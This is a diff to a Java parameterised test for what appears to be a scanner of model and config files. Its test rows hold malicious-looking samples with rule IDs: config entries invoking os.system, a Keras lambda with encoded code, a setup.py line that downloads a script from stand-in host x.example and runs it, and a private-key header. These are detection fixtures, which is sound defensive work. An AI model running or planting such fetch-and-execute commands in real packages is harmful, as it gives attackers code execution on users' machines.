@@ -31,7 +31,7 @@ class WideTextFilesTest {
         "a.yml | _target_: os.system | HFC-002",
         "config.json | {\"_target_\": \"os.system\", \"command\": \"id\"} | HFC-002",
         "model.json | {\"class_name\": \"__lambda__\", \"config\": {\"value\": \"4wAA\"}} | KER-001",
-        "setup.py | import os; os.system('curl http://x.example/a.sh -o /tmp/a; sh /tmp/a') | PYC-001",
+        "setup.py | import os; os.system('curl http://x.example/a.sh -o a.sh; sh a.sh') | PYC-001",
         "a.txt | -----BEGIN PRIVATE KEY----- | ",
       })
   void whatItSaysIsFoundInEveryEncoding(String name, String text, String rule) {
